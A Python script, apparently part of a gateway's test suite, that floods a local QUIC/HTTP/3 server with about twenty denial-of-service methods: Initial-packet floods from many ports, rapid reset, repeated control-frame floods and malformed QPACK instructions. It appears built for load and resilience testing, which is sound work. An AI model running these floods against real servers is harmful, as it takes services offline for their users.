#!/usr/bin/python3
"""Attacks a gateway over QUIC for some seconds, as fast as it can, and prints how many connections that took.

    http3_attack_client.py NAME PORT SECONDS [--after FILE]

With a file it begins once that is there; what can be made before is made before.
The names are those of ATTACKS below. Packets, frames and streams are made as tests/conformance makes them."""
import argparse
import itertools
import logging
import os
import pathlib
import random
import socket
import sys
import time

TESTS = pathlib.Path(__file__).resolve().parent.parent
sys.path[:0] = [str(TESTS / "conformance"), str(TESTS / "http3_peers")]

import http3_peers  # noqa: E402  (found by the line above)

assert not http3_peers.reason, http3_peers.reason

from cases_quic_frames import (ACK, MAX_STREAM_DATA, PATH_CHALLENGE, RESET_STREAM,  # noqa: E402
                               RETIRE_CONNECTION_ID, STOP_SENDING, new_id, of, stream)
from quic_case import Asking  # noqa: E402
from quic_client import CONTROL_ID, DECODER_ID, ENCODER_ID, PING, Fault, Silence, Target, Ways  # noqa: E402
from quic_h3 import DATA, HEADERS, frame, increment, insert_literal, section, set_capacity  # noqa: E402

GREASE, PRIORITY_UPDATE, SOCKETS, INITIALS, BURST = 0x21, 0xf0700, 251, 250, 32


class Datagrams:
    """Without a handshake: datagrams from many ports."""

    def __init__(self, make):
        self.make, self.made = make, None

    def prepare(self, target):
        self.made = self.made or self.make(target)

    def run(self, target, until):
        self.prepare(target)
        sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(SOCKETS)]
        for sock in sockets:
            sock.connect((target.host, target.port))
            sock.setblocking(False)
        sent = 0
        for sock, datagram in zip(itertools.cycle(sockets), itertools.cycle(self.made)):
            if sent % BURST == 0 and time.monotonic() >= until:
                return sent
            try:
                sock.send(datagram)
            except OSError:
                pass
            sent += 1


def first_packets(target):
    """First datagrams of so many clients, each with an ID of its own; when they come again from another port, another client
    seems to begin. The ports are a prime number, so each comes from each."""
    made = []
    for _ in range(INITIALS):
        client = Asking(target)
        client.quic.connect((target.host, target.port), time.monotonic())
        made += [data for data, _ in client.quic.datagrams_to_send(time.monotonic())]
        client.sock.close()
    return made


def garbage(_target):
    return [bytes([0x40 | random.getrandbits(6)]) + random.randbytes(random.randrange(20, 1200)) for _ in range(INITIALS)]


def unknown_versions(_target):
    return [b"\xc0" + random.randbytes(4) + b"\x08" + random.randbytes(8) + b"\x08" + random.randbytes(8) + bytes(1180)
            for _ in range(INITIALS)]


def broken_first_packets(target):
    """Initial packets whose protection is wrong."""
    return [data[:-20] + random.randbytes(20) for data in first_packets(target)]


class Connections:
    """One connection after the other: `begin` once, then `go_on` again and again, until the gateway has had enough."""

    def __init__(self, go_on, begin=None):
        self.begin, self.go_on = begin, go_on

    def run(self, target, until):
        made = 0
        while time.monotonic() < until:
            client = Asking(target, Ways())
            try:
                client.begin()
                made += 1
                if self.begin:
                    self.begin(client)
                for number in itertools.count():
                    if client.seen.closed or time.monotonic() >= until:
                        break
                    self.go_on(client, number)
                    client.poll(time.monotonic() + 0.0001)
            except (Silence, Fault):
                pass
            finally:
                client.close()
        return made


def requests(method="GET", *more):
    """A function that makes the octets of a request."""
    made = {}

    def octets(client):
        if "octets" not in made:
            made["octets"] = frame(HEADERS, section(client.fields(method, *more)))
        return made["octets"]
    return octets


def rapid_reset(client, number):
    octets = REQUEST(client)
    for index in range(8 * number, 8 * number + 8):
        client.frames(stream(4 * index, octets, fin=True), of(RESET_STREAM, 4 * index, 0x10c, len(octets)),
                      of(STOP_SENDING, 4 * index, 0x10c))


REQUEST = requests()


def again(*frames):
    """The same frames in packet after packet."""
    payload = b"".join(frames)
    return lambda client, number: [client.frames(payload) for _ in range(BURST)]


def many_ids(client, number):
    client.frames(*(new_id(100 + 8 * number + index, 100 + 8 * number + index, os.urandom(8)) for index in range(8)))


def entries(client, number):
    client.write(ENCODER_ID, b"".join(insert_literal(b"x-%d" % number, b"y" * 20) for _ in range(50)))


def offence(number, octets, end=False):
    """One is enough for the gateway: what remains is the handshakes."""
    return Connections(lambda client, count: client.write(number, octets, end) if not count else time.sleep(0.001))


def blocked_streams(client, number):
    """Requests that wait for entries which never come."""
    client.write(4 * number, frame(HEADERS, b"\x02\x00" + section(client.fields())[2:]), True)


ATTACKS = {
    "Initials": Datagrams(first_packets),
    "broken Initials": Datagrams(broken_first_packets),
    "unknown versions": Datagrams(unknown_versions),
    "datagrams of no connection": Datagrams(garbage),
    "handshakes": Connections(lambda client, _: client.quic.close(0x100)),
    "rapid reset": Connections(rapid_reset),
    "PING": Connections(again(PING)),
    "PATH_CHALLENGE": Connections(again(of(PATH_CHALLENGE, octets=b"01234567") * 8)),
    "MAX_STREAM_DATA": Connections(again(of(MAX_STREAM_DATA, 0, 1 << 20) * 50)),
    "NEW_CONNECTION_ID": Connections(many_ids),
    "ACK of unsent packets": Connections(again(of(ACK, 1 << 20, 0, 0, 0))),
    "RETIRE_CONNECTION_ID of none": Connections(again(of(RETIRE_CONNECTION_ID, 1000))),
    "reserved frames": Connections(lambda client, _: client.write(CONTROL_ID, frame(GREASE) * 400)),
    "PRIORITY_UPDATE": Connections(lambda client, _: client.write(CONTROL_ID, frame(PRIORITY_UPDATE, b"\0u=1") * 200)),
    "empty DATA": Connections(lambda client, _: client.write(0, frame(DATA) * 400),
                              lambda client: client.write(0, frame(HEADERS, section(client.fields("POST"))))),
    "entries of QPACK": Connections(entries, lambda client: client.write(ENCODER_ID, set_capacity(220))),
    "bad instructions of QPACK": offence(ENCODER_ID, set_capacity(1 << 30)),
    "bad increments of QPACK": offence(DECODER_ID, increment(0)),
    "blocked streams of QPACK": Connections(blocked_streams),
    "critical streams reopened": offence(14, b"\0\x04\0"),
    "critical streams closed": offence(CONTROL_ID, b"", True),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--after", type=pathlib.Path, metavar="FILE")
    arguments = parser.parse_args()
    logging.disable(logging.CRITICAL)
    attack, target = ATTACKS[arguments.name], Target(port=arguments.port, path="/12", authority="localhost")
    if arguments.after:
        if isinstance(attack, Datagrams):
            attack.prepare(target)
        while not arguments.after.exists():
            time.sleep(0.01)
    print(attack.run(target, time.monotonic() + arguments.seconds))


if __name__ == "__main__":
    main()
